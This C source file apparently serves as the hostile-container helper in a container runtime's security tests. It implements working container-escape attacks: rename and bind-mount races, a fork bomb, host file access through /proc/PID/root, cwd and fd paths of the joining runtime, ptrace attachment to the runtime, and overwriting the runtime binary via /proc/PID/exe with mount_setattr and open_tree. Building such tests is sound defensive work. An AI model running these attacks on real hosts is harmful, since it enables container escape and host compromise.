/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What hostile containers run: each verb is one attack, bounded in time, that tells on stdout what it got. Tests
 * say what it should have got.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* exchange A B SECONDS: swaps the two names as fast as it can. */
static int exchange(char **a)
{
	double end = now() + atof(a[2]);
	unsigned long rounds = 0;

	while (now() < end) {
		for (int i = 0; i < 50; i++, rounds++)
			if (syscall(SYS_renameat2, AT_FDCWD, a[0], AT_FDCWD, a[1], RENAME_EXCHANGE))
				return perror("renameat2"), 1;
	}
	printf("%lu rounds\n", rounds & ~1UL);
	return 0;
}

/* cover FILE TARGET SECONDS: mounts FILE over TARGET and takes it away again as fast as it can. */
static int cover(char **a)
{
	double end = now() + atof(a[2]);
	unsigned long rounds = 0;

	for (; now() < end; rounds++) {
		if (mount(a[0], a[1], NULL, MS_BIND, NULL))
			return perror("mount"), 1;
		usleep(200);
		if (umount2(a[1], MNT_DETACH))
			return perror("umount2"), 1;
	}
	printf("%lu rounds\n", rounds);
	return 0;
}

/* bomb SECONDS: processes that make two others and end, as many as there may be. */
static int bomb(char **a)
{
	double end = now() + atof(a[0]);

	for (int made = 0; now() < end && made < 2;) {
		pid_t pid = fork();
		if (pid == 0)
			made = 0;
		else
			made += pid > 0;
	}
	return 0;
}

struct finds {
	unsigned seen, exe, reached;
	char how[128];
};

static bool is_runtime(int pid)
{
	char path[64], comm[32] = "";
	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	int fd = open(path, O_RDONLY);

	if (fd < 0)
		return false;
	ssize_t n = read(fd, comm, sizeof(comm) - 1);
	close(fd);
	/* Executed by descriptor, older kernels call it by the number. */
	return n > 0 && (strncmp(comm, "tare-runtime", 12) == 0 || (*comm >= '0' && *comm <= '9'));
}

static void try_exe(int pid, struct finds *f)
{
	char path[64], target[256];

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	ssize_t n = readlink(path, target, sizeof(target) - 1);
	if (n <= 0)
		return;
	target[n] = 0;
	/* Not what it has become meanwhile. */
	f->exe += strstr(target, "busybox") == NULL && is_runtime(pid);
}

/* Whether the host's file can be had through a directory this process holds. */
static bool try_way(int pid, const char *way, const char *file, struct finds *f)
{
	char path[512];

	snprintf(path, sizeof(path), "/proc/%d/%s/../../../../../../../../../..%s", pid, way, file);
	int fd = open(path, O_RDONLY);
	if (fd < 0)
		return false;
	close(fd);
	if (!f->reached++)
		snprintf(f->how, sizeof(f->how), "%s", way);
	return true;
}

static void look_into(int pid, const char *file, struct finds *f)
{
	char way[16];

	try_exe(pid, f);
	if (try_way(pid, "root", file, f) || try_way(pid, "cwd", file, f))
		return;
	for (int fd = 0; fd < 24; fd++) {
		snprintf(way, sizeof(way), "fd/%d", fd);
		if (try_way(pid, way, file, f))
			return;
	}
}

/* The newest process of this pid namespace. */
static int last_pid(void)
{
	char text[128] = "";
	int fd = open("/proc/loadavg", O_RDONLY);

	if (fd < 0 || read(fd, text, sizeof(text) - 1) <= 0)
		exit(1);
	close(fd);
	char *last = strrchr(text, ' ');
	return last ? (int)strtol(last, NULL, 10) : 0;
}

/*
 * peek SECONDS FILE: watches for processes that come into this pid namespace while they are still the runtime, and
 * tries to get at FILE of the host by way of what they hold.
 */
static int peek(char **a)
{
	double end = now() + atof(a[0]);
	struct finds f = { 0 };

	printf("ready\n");
	fflush(stdout);
	while (now() < end) {
		bool seen = false;
		int pid = last_pid() + 1;
		for (int tries = 0; tries < 100 && !seen; tries++)
			seen = is_runtime(pid);
		f.seen += seen;
		while (seen && is_runtime(pid) && now() < end)
			look_into(pid, a[1], &f);
	}
	printf("seen %u exe %u reached %u %s\n", f.seen, f.exe, f.reached, f.how);
	return 0;
}

/* look PID FILE: the same for one process that stands still. */
static int look(char **a)
{
	struct finds f = { 0 };
	int pid = (int)strtol(a[0], NULL, 10);

	look_into(pid, a[1], &f);
	printf("seen %d exe %u reached %u %s\n", is_runtime(pid), f.exe, f.reached, f.how);
	return 0;
}

/*
 * trace SECONDS: as peek, but attaches with ptrace. A process that is traced while it is still the runtime would do
 * whatever the tracer wants, with the rights it still has.
 */
static int trace(char **a)
{
	double end = now() + atof(a[0]);
	unsigned seen = 0, traced = 0;

	printf("ready\n");
	fflush(stdout);
	while (now() < end) {
		bool hit = false;
		int pid = last_pid() + 1;
		for (int tries = 0; tries < 100 && !hit; tries++)
			hit = is_runtime(pid);
		seen += hit;
		while (hit && is_runtime(pid) && now() < end) {
			if (ptrace(PTRACE_SEIZE, pid, 0, 0))
				continue;
			traced += is_runtime(pid);
			ptrace(PTRACE_INTERRUPT, pid, 0, 0);
			waitpid(pid, NULL, __WALL);
			ptrace(PTRACE_DETACH, pid, 0, 0);
		}
	}
	printf("seen %u traced %u\n", seen, traced);
	return 0;
}

static int is_program(int pid, const char *file)
{
	char path[64];
	struct stat a, b;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	return stat(path, &a) == 0 && stat(file, &b) == 0 && a.st_dev == b.st_dev &&
	       a.st_ino == b.st_ino;
}

/* Whether a file of the runtime that is held by fd can be had for writing, by hook or by crook. */
static const char *try_to_write(int fd)
{
	struct mount_attr_0 {
		unsigned long long set, clear, propagation, userns;
	} writable = { 0, 1, 0, 0 }; /* MOUNT_ATTR_RDONLY */
	char path[64];

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	if (open(path, O_WRONLY) >= 0)
		return "opened";
	if (open(path, O_WRONLY | O_TRUNC) >= 0)
		return "truncated";
	syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &writable, sizeof(writable));
	if (open(path, O_WRONLY) >= 0)
		return "made writable";
	long tree = syscall(SYS_open_tree, fd, "", AT_EMPTY_PATH | 1 /* OPEN_TREE_CLONE */);
	if (tree >= 0) {
		syscall(SYS_mount_setattr, (int)tree, "", AT_EMPTY_PATH, &writable,
			sizeof(writable));
		char again[64];
		snprintf(again, sizeof(again), "/proc/self/fd/%ld", tree);
		if (open(again, O_WRONLY) >= 0)
			return "cloned";
	}
	close(open("/tmp/over", O_CREAT | O_RDONLY, 0600));
	if (mount(path, "/tmp/over", NULL, MS_BIND, NULL) == 0) {
		mount(NULL, "/tmp/over", NULL, MS_BIND | MS_REMOUNT, NULL);
		if (open("/tmp/over", O_WRONLY) >= 0)
			return "bound";
	}
	return NULL;
}

/* Until nobody executes it any more, which is what keeps everybody from writing to it; lets go those that wait at a log. */
static bool is_let_go(int fd, double end)
{
	char path[64];
	int again;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	while ((again = open(path, O_WRONLY)) < 0 && errno == ETXTBSY && now() < end) {
		close(open("/tmp/hold", O_RDONLY | O_NONBLOCK));
		usleep(5000);
	}
	bool is_busy = again < 0 && errno == ETXTBSY;
	close(again);
	return !is_busy;
}

/*
 * overwrite OWN SECONDS: takes hold of the file of every process here that does not run OWN (the container's one
 * program), waits until those have become something else or ended, and tries to write to what it holds.
 */
static int overwrite(char **a)
{
	double end = now() + atof(a[1]);
	int held[16], of[16] = { 0 };
	unsigned n = 0;

	printf("ready\n");
	fflush(stdout);
	while (n < 16 && now() < end) {
		for (int pid = 1; pid <= last_pid() + 1 && n < 16; pid++) {
			char path[64];
			if ((n && of[n - 1] == pid) || is_program(pid, a[0]) ||
				is_program(pid, "/proc/self/exe"))
				continue;
			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			int fd = open(path, O_RDONLY);
			if (fd >= 0) {
				of[n] = pid;
				held[n++] = fd;
			}
		}
		/* Those that wait for a reader of their log. */
		close(open("/tmp/hold", O_RDONLY | O_NONBLOCK));
	}
	for (unsigned i = 0; i < n; i++) {
		const char *how =
			is_let_go(held[i], end + 3) ? try_to_write(held[i]) : "it is busy for ever";
		if (how)
			printf("got it: %s\n", how);
	}
	printf("held %s\n", n ? "some" : "none");
	return 0;
}

static const struct verb {
	const char *name;
	int args;
	int (*run)(char **args);
} verbs[] = {
	{ "exchange", 3, exchange },
	{ "cover", 3, cover },
	{ "bomb", 1, bomb },
	{ "peek", 2, peek },
	{ "look", 2, look },
	{ "trace", 1, trace },
	{ "overwrite", 2, overwrite },
};

int main(int argc, char **argv)
{
	for (size_t i = 0; i < sizeof(verbs) / sizeof(verbs[0]) && argc > 1; i++)
		if (strcmp(verbs[i].name, argv[1]) == 0 && argc == 2 + verbs[i].args)
			return verbs[i].run(argv + 2);
	fprintf(stderr, "usage: attacker VERB ARGUMENTS…\n");
	return 2;
}
